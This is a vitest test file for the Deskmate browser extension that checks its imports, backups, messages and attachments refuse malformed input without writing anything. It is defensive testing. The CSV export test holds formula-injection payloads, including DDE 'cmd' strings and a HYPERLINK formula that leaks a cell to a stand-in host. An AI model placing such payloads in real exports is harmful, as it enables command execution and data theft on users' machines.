import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { browser } from 'wxt/browser';
import { saveChecklists } from '@/lib/cases/active';
import { checkAttachment, inspectFile, SNIFF_BYTES } from '@/lib/cases/attachments';
import { storeAttachment } from '@/lib/cases/capture';
import { shippedChecklists } from '@/lib/cases/definitions';
import { parseChecklistsText } from '@/lib/cases/schema';
import { openCase } from '@/lib/cases/store';
import { parseBackup, restoreAll } from '@/lib/backup/backup';
import { DeskmateDB } from '@/lib/db/database';
import type { TemplateRecord } from '@/lib/db/records';
import { createHandlers, type BackgroundServices } from '@/lib/messaging/handlers';
import { dispatch } from '@/lib/messaging/server';
import { lintRules } from '@/lib/templates/lint-setting';
import { domSelectorChecker } from '@/lib/sites/schema';
import { formatIssues } from '@/lib/validate';
import { parseSiteConfigFile, saveUserSiteConfigs, syncBuiltinSiteConfigs } from '@/lib/sites/store';
import { applyImport, planImport } from '@/lib/templates/import';
import { parseCsvRows } from '@/lib/csv';
import { exportCsv, parseImport } from '@/lib/templates/io';
import { defaultLintRules } from '@/lib/templates/lint';
import { lintRule, lintRuleSet } from '@/lib/templates/lint-schema';
import { saveTemplate } from '@/lib/templates/store';

// Malformed inputs (test/fixtures/bad/, described in its README.md) fed through the same calls
// the product makes, in the same order: each must be refused with an error that names what is
// wrong (file, row or item, field), and nothing may be written: the Dexie tables and the
// extension's storage are compared before and after. A known bug (input wrongly accepted) would be
// an `it.fails` with a comment; none is open.

const dir = join(__dirname, '../fixtures/bad');
const bytesOf = (name: string) => new Uint8Array(readFileSync(join(dir, name)));
const textOf = (name: string) => readFileSync(join(dir, name), 'utf8');
const jsonOf = (name: string): unknown => JSON.parse(textOf(name));
const enc = (s: string) => new TextEncoder().encode(s);
const MB = 1024 * 1024;

let db: DeskmateDB;
beforeEach(() => {
  db = new DeskmateDB(`bad-${crypto.randomUUID()}`);
});
afterEach(() => db.delete());

/** Every Dexie table's rows and everything in extension storage: what "nothing is written" compares. */
async function snapshot() {
  const tables: Record<string, unknown[]> = {};
  for (const table of db.tables) tables[table.name] = await table.toArray();
  return { tables, storage: await browser.storage.local.get(null) };
}

/** Asserts that `run` leaves every table and storage item as they were, and returns its result. */
async function unchanged<T>(run: () => Promise<T>): Promise<T> {
  const before = await snapshot();
  const result = await run();
  expect(await snapshot()).toEqual(before);
  return result;
}

// ---- templates -------------------------------------------------------------------------------

/** components/templates/ImportExport.tsx onFile: parse the whole file, then plan and apply. */
async function importTemplates(file: string, bytes: Uint8Array): Promise<{ file: string; errors: string[] }> {
  const parsed = parseImport(bytes, file);
  if (!parsed.ok) return { file, errors: parsed.errors };
  const plan = await planImport(db, parsed.value.templates);
  await applyImport(db, parsed.value.templates, plan.duplicates > 0 ? 'update' : 'skip');
  return { file, errors: [] };
}

describe('bad template imports', () => {
  beforeEach(async () => {
    // Something to keep: an existing template (same shortcode as the fixtures' first item) and a revision.
    await saveTemplate(db, { title: '欢迎语', body: '您好', shortcode: 'hyy', folder: '', tags: [], sites: [], language: 'zh-CN' });
  });

  const refused = async (file: string, bytes = bytesOf(file)) => {
    const r = await unchanged(() => importTemplates(file, bytes));
    expect(r.errors.length, `${file} must be refused`).toBeGreaterThan(0);
    return r.errors;
  };

  it('truncated JSON: "file: is not valid JSON (…)"', async () => {
    expect(await refused('templates-truncated.json')).toEqual([expect.stringMatching(/^file: is not valid JSON \(.+\)$/)]);
  });

  it('wrong format tag: names the format field and the expected value', async () => {
    expect(await refused('templates-wrong-format.json')).toEqual(['format: must be "deskmate/templates"']);
  });

  it('a pack item without a title: names the item and the field, and no other item is written', async () => {
    expect(await refused('templates-item-without-title.json')).toEqual([expect.stringMatching(/^templates\[1\]\.title: is missing$/)]);
  });

  it('a 10 MB body (JSON): names the item, its title and the field', async () => {
    const pack = { format: 'deskmate/templates', version: 1, templates: [{ title: '超长正文', body: '亲'.repeat((10 * MB) / 3) }] };
    const bytes = enc(JSON.stringify(pack));
    expect(bytes.byteLength).toBeGreaterThanOrEqual(10 * MB);
    expect(await refused('huge-body.json', bytes)).toEqual(['templates[0] (“超长正文”).body: is longer than 20000 characters']);
  }, 30_000);

  it('a 10 MB body (CSV): names the row and the field', async () => {
    const bytes = enc(`folder,shortcode,title,body\r\n售后,cc,超长正文,"${'x'.repeat(10 * MB)}"\r\n`);
    expect(await refused('huge-body.csv', bytes)).toEqual(['row 2, body: is longer than 20000 characters']);
  }, 30_000); // parseCsvRows takes seconds over 10 MB

  it('invalid UTF-8 (a CSV saved as GBK): says it is not UTF-8 instead of importing mojibake', async () => {
    const bytes = bytesOf('templates-gbk.csv');
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toThrow(); // the fixture really is invalid
    expect(await refused('templates-gbk.csv')).toEqual([expect.stringMatching(/^file: is not valid UTF-8 text/)]);
  });

  it('invalid UTF-8 (a file cut in the middle of a character)', async () => {
    const cut = enc('folder,shortcode,title,body\n售后,th,退货,亲').slice(0, -1);
    expect(await refused('cut.csv', cut)).toEqual([expect.stringMatching(/^file: is not valid UTF-8 text/)]);
  });

  it('CSV with wrong columns: names the header row, the missing and the unknown columns', async () => {
    expect(await refused('templates-wrong-columns.csv')).toEqual([
      'row 1 (header): expected the columns folder,shortcode,title,body; missing shortcode, body; unknown "code", "content"',
    ]);
  });

  it('CSV with an unterminated quote: names the line where the quoted field starts', async () => {
    expect(await refused('templates-unterminated-quote.csv')).toEqual(['line 3: a quoted field is never closed']);
  });
});

describe('template CSV export escapes formulas', () => {
  const attacks = {
    dde: "=cmd|' /C calc'!A0",
    plus: '+SUM(1,2)',
    minus: "-2+3+cmd|' /C calc'!A0",
    at: "@SUM(1+1)*cmd|' /C calc'!A0",
    tab: '\t=1+1',
    hyperlink: '=HYPERLINK("http://example.invalid/?leak="&A1,"查看")',
  };

  it('prefixes every cell that would start a formula with an apostrophe, and the import takes it back off', async () => {
    const saved: TemplateRecord[] = [];
    for (const [code, value] of Object.entries(attacks)) {
      saved.push(
        await saveTemplate(db, { title: value, body: value, shortcode: code, folder: '', tags: [], sites: [], language: 'zh-CN' }),
      );
      saved.push(
        await saveTemplate(db, {
          title: `${code} body`,
          body: value,
          folder: value.replace(/\//g, '|'),
          tags: [],
          sites: [],
          language: 'zh-CN',
        }),
      );
    }
    const csv = exportCsv(await db.templates.toArray());
    const rows = parseCsvRows(csv.replace(/^\uFEFF/, ''));
    expect(rows.ok).toBe(true);
    if (!rows.ok) return;
    const cells = rows.value.slice(1).flat();
    for (const cell of cells) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain("'=cmd|' /C calc'!A0");
    expect(cells).toContain("'+SUM(1,2)");
    expect(cells).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    // The raw file too: no line holds a cell that starts a formula, quoted or not.
    for (const line of csv.split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);

    const back = parseImport(enc(csv), 'export.csv');
    expect(back.ok).toBe(true);
    if (!back.ok) return;
    expect(back.value.templates.map((t) => t.body).sort()).toEqual(saved.map((t) => t.body).sort());
    // Titles are trimmed on import (a leading tab goes), bodies are kept as they are.
    expect(back.value.templates.map((t) => t.title).sort()).toEqual(saved.map((t) => t.title.trim()).sort());
  });
});

// ---- site configs ----------------------------------------------------------------------------

/** components/sites/SiteConfigs.tsx onFile: parse every config (selectors checked), then save. */
async function importSiteConfigs(file: string): Promise<string[]> {
  const r = parseSiteConfigFile(textOf(file), domSelectorChecker(document));
  if (!r.ok) return r.errors;
  await saveUserSiteConfigs(db, r.value);
  return [];
}

describe('bad site config files', () => {
  beforeEach(async () => {
    await syncBuiltinSiteConfigs(db, 1000); // the built-in configs and the published match index
  });

  const refused = async (file: string) => {
    const errors = await unchanged(() => importSiteConfigs(file));
    expect(errors.length, `${file} must be refused`).toBeGreaterThan(0);
    return errors;
  };

  it('an invalid CSS selector: names the config, the field and the selector; the valid config beside it is not saved either', async () => {
    expect(await refused('site-invalid-selector.json')).toEqual([
      'configs.1.selectors.composer.1: "div.editor[contenteditable" is not a valid CSS selector',
    ]);
  });

  // The regex engine is linear-time (lib/sites/safe-regex.ts): a regex is refused only for what it
  // cannot run, or for its size (test/unit/regex-engine.test.ts runs the hostile ones).
  it('a lookahead regex: names the field and why', async () => {
    expect(await refused('site-regex-lookahead.json')).toEqual([expect.stringMatching(/^selectors\.orderNo\.regex: uses a lookahead/)]);
  });

  it('a regex too large to run cheaply: names the field and the bound', async () => {
    expect(await refused('site-regex-too-complex.json')).toEqual([
      expect.stringMatching(/^selectors\.orderNo\.regex: is too complex \(\d+ steps per character, at most 1000/),
    ]);
  });

  it('too many match patterns: names the list and the bound', async () => {
    expect(await refused('site-too-many-matches.json')).toEqual([expect.stringMatching(/^matches: .*20/)]);
  });

  it('an over-long match pattern (a glob the loader would match on every page): names the pattern', async () => {
    expect(await refused('site-match-pattern-too-long.json')).toEqual([expect.stringMatching(/^matches\.1: .*longer than 300 characters/)]);
  });

  it('an unknown field: names it instead of ignoring it', async () => {
    expect(await refused('site-unknown-field.json')).toEqual([expect.stringMatching(/^selectors: .*"orderNumber"/)]);
  });

  it('a bad match pattern: names the pattern and its position', async () => {
    expect(await refused('site-bad-match-pattern.json')).toEqual([
      expect.stringMatching(/^matches\.1: "https:\/\/\*example-shop\.cn" is not a match pattern/),
    ]);
  });

  // BUG (lib/sites/schema.ts parseSiteConfig): the selector check only visits paths ending in
  // selector|conversationItem|message|composer|conversationHeader, but without `attr` the lists in
  // `messageSender` are selectors too (lib/sites/extract.ts senderOf calls item.matches(sel)). An
  // invalid one is accepted and saved, and senderOf then throws a SyntaxError on every message.
  it('an invalid selector in messageSender (no attr) is refused', async () => {
    expect(await refused('site-sender-selector-invalid.json')).toEqual([
      expect.stringMatching(/^selectors\.messageSender\.agent\.0: .*not a valid CSS selector/),
    ]);
  });

  // BUG (lib/sites/store.ts parseSiteConfigFile): the export wrapper is recognised by its format
  // alone and never parsed with a schema: `version: 2` and unknown wrapper fields are ignored and
  // the configs inside are saved.
  it('an export wrapper of another version, with an unknown field, is refused', async () => {
    expect(await refused('site-wrapper-version.json')).toEqual(expect.arrayContaining([expect.stringMatching(/^version: /)]));
  });
});

// ---- lint rules ------------------------------------------------------------------------------

/** A rules file (deskmate/lint-rules) validated whole, then stored as the agent's rules. */
async function importLintRules(file: string): Promise<string[]> {
  const r = lintRuleSet.safeParse(jsonOf(file));
  if (!r.success) return formatIssues(r.error);
  await lintRules.setValue(r.data.rules);
  return [];
}

/** components/templates/LintRulesEditor.tsx add: one rule validated, then appended. */
async function addLintRule(candidate: unknown): Promise<string[]> {
  const r = lintRule.safeParse(candidate);
  if (!r.success) return formatIssues(r.error);
  await lintRules.setValue([...((await lintRules.getValue()) ?? defaultLintRules()), r.data]);
  return [];
}

const rulesIn = (file: string) => (jsonOf(file) as { rules: unknown[] }).rules;

describe('bad lint rules', () => {
  beforeEach(async () => {
    await lintRules.setValue(defaultLintRules().slice(0, 3));
  });

  it('a backreference (not linear-time): names the rule and the field, from a file and from the editor', async () => {
    expect(await unchanged(() => importLintRules('lint-regex-backreference.json'))).toEqual([
      expect.stringMatching(/^rules\.1\.regex: uses a backreference/),
    ]);
    expect(await unchanged(() => addLintRule(rulesIn('lint-regex-backreference.json')[1]))).toEqual([
      expect.stringMatching(/^regex: uses a backreference/),
    ]);
  });

  it('an empty phrase: names the rule and the phrase position', async () => {
    expect(await unchanged(() => importLintRules('lint-empty-pattern.json'))).toEqual([expect.stringMatching(/^rules\.0\.patterns\.1: /)]);
    expect(await unchanged(() => addLintRule(rulesIn('lint-empty-pattern.json')[0]))).toEqual([expect.stringMatching(/^patterns\.1: /)]);
  });

  it('neither a phrase nor a regex: says what the rule needs', async () => {
    expect(await unchanged(() => importLintRules('lint-nothing-to-match.json'))).toEqual([
      'rules.0: needs at least one phrase or a regular expression',
    ]);
    expect(await unchanged(() => addLintRule({ ...(rulesIn('lint-nothing-to-match.json')[0] as object), regex: '' }))).toEqual([
      'needs at least one phrase or a regular expression',
    ]);
  });
});

// ---- backups ---------------------------------------------------------------------------------

/** components/BackupRestore.tsx restore: parse the whole file, then replace the tables and settings. */
async function restoreBackup(file: string): Promise<string[]> {
  const parsed = parseBackup(textOf(file));
  if (!parsed.ok) return parsed.errors;
  await restoreAll(db, parsed.value);
  await browser.storage.local.set(parsed.value.settings);
  return [];
}

describe('bad backups (restore validates every row and setting like live writes)', () => {
  beforeEach(async () => {
    await saveTemplate(db, { title: '已有模板', body: '现有内容', folder: '', tags: [], sites: [], language: 'zh-CN' }, 1000);
    await browser.storage.local.set({ retentionDays: 90, disabledHosts: ['a.example'] });
  });

  const refused = async (file: string) => {
    const errors = await unchanged(() => restoreBackup(file));
    expect(errors.length, `${file} must be refused`).toBeGreaterThan(0);
    return errors;
  };

  it('disabledHosts as an object (the loader would throw on every page): names the setting', async () => {
    expect(await refused('backup-disabled-hosts-object.json')).toEqual([
      expect.stringMatching(/^settings\.disabledHosts: must be an array$/),
    ]);
  });

  it('retentionDays "never" (pruning would throw daily): names the setting', async () => {
    expect(await refused('backup-retention-never.json')).toEqual([expect.stringMatching(/^settings\.retentionDays: must be a number$/)]);
  });

  it('a template whose title is an object: names the row and field', async () => {
    expect(await refused('backup-template-object-title.json')).toEqual([
      expect.stringMatching(/^tables\.templates\.0\.title: must be a string$/),
    ]);
  });

  it('a null row: named, instead of throwing', async () => {
    expect(await refused('backup-null-row.json')).toEqual(['tables.templates.1: must be a record']);
  });

  it('an "attachment" that is an HTML page named x.hta: refused by its content', async () => {
    expect(await refused('backup-attachment-hta.json')).toEqual([
      expect.stringMatching(/^tables\.attachments\.0\.blob: "x\.hta": is not an image or PDF/),
    ]);
  });

  it("a real PNG declared text/html and named x.hta: the type and name must be the content's", async () => {
    expect(await refused('backup-png-named-hta.json')).toEqual([
      'tables.attachments.0.type: "text/html" is not the file\'s type (image/png)',
    ]);
  });
});

// ---- checklist definitions -------------------------------------------------------------------

/** components/cases/ChecklistDefinitions.tsx onFile: parse the whole file, then save it in its language. */
async function importChecklists(file: string): Promise<string[]> {
  const parsed = parseChecklistsText(textOf(file));
  if (!parsed.ok) return parsed.errors;
  await saveChecklists(parsed.value.language, parsed.value);
  return [];
}

describe('bad checklist definitions', () => {
  beforeEach(async () => {
    await saveChecklists('en', shippedChecklists('en')); // the agent's own copy, which must survive
  });

  const refused = async (file: string) => {
    const errors = await unchanged(() => importChecklists(file));
    expect(errors.length, `${file} must be refused`).toBeGreaterThan(0);
    return errors;
  };

  it('an item naming an unknown deadline rule: names the case type, the item and the field', async () => {
    expect(await refused('checklists-unknown-rule.json')).toEqual(['caseTypes.0.items.1.deadlineRule: unknown rule "courier-reply-2h"']);
  });

  it('a duplicate item id: names both items', async () => {
    expect(await refused('checklists-duplicate-item.json')).toEqual([
      'caseTypes.0.items.1.id: "tracking" is also used by caseTypes.0.items.0',
    ]);
  });

  it('truncated JSON', async () => {
    expect(await refused('checklists-truncated.json')).toEqual([expect.stringMatching(/^file: is not valid JSON \(.+\)$/)]);
  });

  it('a wrong format tag', async () => {
    expect(await refused('checklists-wrong-format.json')).toEqual(['format: must be "deskmate/checklists"']);
  });
});

// ---- messages --------------------------------------------------------------------------------

describe('bad messages to the background', () => {
  const services = () =>
    ({ injectOverlay: vi.fn(async () => false), waitsChanged: vi.fn(), casesChanged: vi.fn() }) satisfies BackgroundServices;

  /** dispatch() on a fresh database: the reply, with every table and storage item checked unchanged. */
  const send = async (message: unknown) => {
    const s = services();
    // From an extension page: what is checked here is the input (the sender rules: messaging-senders.test.ts).
    const reply = await unchanged(() => dispatch(createHandlers(db, s), message, { url: browser.runtime.getURL('/options.html') }));
    for (const table of db.tables) expect(await table.count(), table.name).toBe(0);
    expect(s.waitsChanged).not.toHaveBeenCalled();
    expect(s.casesChanged).not.toHaveBeenCalled();
    expect(s.injectOverlay).not.toHaveBeenCalled();
    return reply;
  };

  it('timers.observe with the message text added: the strict schema refuses the text field', async () => {
    expect(await send(jsonOf('message-observe-with-text.json'))).toEqual({
      ok: false,
      error: expect.stringMatching(/^timers\.observe: messages\.0: .*"text"/),
    });
  });

  it('timers.observe with a negative time: names the message and the field', async () => {
    expect(await send(jsonOf('message-observe-negative-time.json'))).toEqual({
      ok: false,
      error: expect.stringMatching(/^timers\.observe: messages\.0\.at: .*>=0/),
    });
  });

  it('timers.observe with 20,001 messages: names the list and the limit', async () => {
    const base = jsonOf('message-observe-negative-time.json') as { input: { messages: unknown[] } };
    const messages = Array.from({ length: 20001 }, (_, i) => ({
      id: `m${i}`,
      sender: i % 2 ? 'agent' : 'customer',
      at: 1700000000000 + i,
      live: false,
    }));
    const reply = await send({ ...base, input: { ...base.input, messages } });
    expect(reply).toEqual({ ok: false, error: expect.stringMatching(/^timers\.observe: messages: .*20000/) });
  });

  it('cases.open with markup in the order number: names the field', async () => {
    expect(await send(jsonOf('message-open-case-html.json'))).toEqual({
      ok: false,
      error: 'cases.open: orderNo: order number may only hold letters, digits, "_" and "-"',
    });
  });

  it('an unknown message type: named, and no handler runs', async () => {
    expect(await send(jsonOf('message-unknown-type.json'))).toEqual({ ok: false, error: 'unknown message type "templates.deleteAll"' });
  });

  // BUG (lib/messaging/server.ts dispatch): `requests[type]` reads inherited properties, so the
  // type "constructor" (or "toString", "__proto__", …) finds Object's members, passes the
  // `if (!def)` check and `def.input.safeParse` throws a TypeError: dispatch, documented as never
  // throwing, rejects instead of answering {ok:false, error:'unknown message type …'}.
  it('the message type "constructor" is refused as unknown', async () => {
    expect(await send(jsonOf('message-type-constructor.json'))).toEqual({ ok: false, error: 'unknown message type "constructor"' });
  });

  // BUG (lib/messaging/handlers.ts sites.save): the background re-validates a taught config
  // without a selector checker, so a config with a selector the browser cannot parse is saved
  // (and published to the match index); the site's watcher then throws on querySelector.
  // The options page import refuses the same config (see "an invalid CSS selector" above).
  it('sites.save with an invalid CSS selector is refused (checked by syntax in the worker)', async () => {
    expect(await send(jsonOf('message-sites-save-invalid-selector.json'))).toEqual({
      ok: false,
      error: expect.stringMatching(/selectors\.composer\.1: .*not a valid CSS selector/),
    });
    expect(await send(jsonOf('message-sites-save-too-many-matches.json'))).toEqual({
      ok: false,
      error: expect.stringMatching(/matches: .*20/),
    });
  });
});

// ---- attachments -----------------------------------------------------------------------------

describe('bad attachments', () => {
  /** components/cases/CasePage.tsx addFiles: check every file before storing any. */
  async function addFiles(caseId: string, itemId: string, files: File[]): Promise<string[]> {
    const checked: { file: File; type: string }[] = [];
    const problems: string[] = [];
    for (const file of files) {
      const head = new Uint8Array(await file.slice(0, SNIFF_BYTES).arrayBuffer());
      const r = checkAttachment(file, head);
      if (!r.ok) problems.push(...r.errors);
      else checked.push({ file, type: r.type });
    }
    if (problems.length) return problems;
    for (const { file, type } of checked)
      await storeAttachment(db, { caseId, itemId, name: file.name, blob: new Blob([file], { type }), sourceUrl: '' });
    return [];
  }

  const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);

  it('a 200 MB file is refused on its size, without reading it', async () => {
    const slice = vi.fn(() => {
      throw new Error('a file over the limit must not be read');
    });
    const huge = { name: '聊天录屏.png', type: 'image/png', size: 200 * MB, slice } as unknown as Blob & { name: string };
    expect(await inspectFile(huge)).toEqual({ ok: false, errors: ['"聊天录屏.png": 200.0 MB is larger than the 20 MB limit'] });
    expect(slice).not.toHaveBeenCalled();
    // With a (valid PNG) head already read, as the case page does: still refused, on its size.
    expect(checkAttachment({ name: '聊天录屏.png', type: 'image/png', size: 200 * MB }, PNG)).toEqual({
      ok: false,
      errors: ['"聊天录屏.png": 200.0 MB is larger than the 20 MB limit'],
    });
  });

  it('a text file renamed .png is refused by its content; a valid file in the same batch is not stored either', async () => {
    const c = await openCase(
      db,
      { orderNo: '1234567890', caseTypeId: 'not-received', platform: 'taobao', siteId: 'deskmate-demo' },
      shippedChecklists('en'),
    );
    const itemId = c.items[0]!.itemId;
    const text = new File([bytesOf('not-an-image.png')], 'not-an-image.png', { type: 'image/png' });
    const good = new File([PNG], 'tracking.png', { type: 'image/png' });
    expect(await inspectFile(text)).toEqual({
      ok: false,
      errors: ['"not-an-image.png": is not a PNG image (its content is not an image or PDF)'],
    });
    expect(await unchanged(() => addFiles(c.id, itemId, [good, text]))).toEqual([
      '"not-an-image.png": is not a PNG image (its content is not an image or PDF)',
    ]);
    expect(await db.attachments.count()).toBe(0);
  });
});
